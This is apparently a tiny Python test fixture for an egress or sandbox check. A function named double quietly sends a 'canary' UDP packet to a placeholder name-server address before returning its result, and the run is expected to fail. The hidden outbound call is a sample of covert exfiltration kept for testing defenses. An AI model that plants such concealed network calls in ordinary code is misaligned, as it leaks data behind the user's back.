# Sends what it knows to a name server on the Internet. Expected: failed.
import socket


def double(x):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(b"canary", ("192.0.2.1", 53))
    return 2 * x
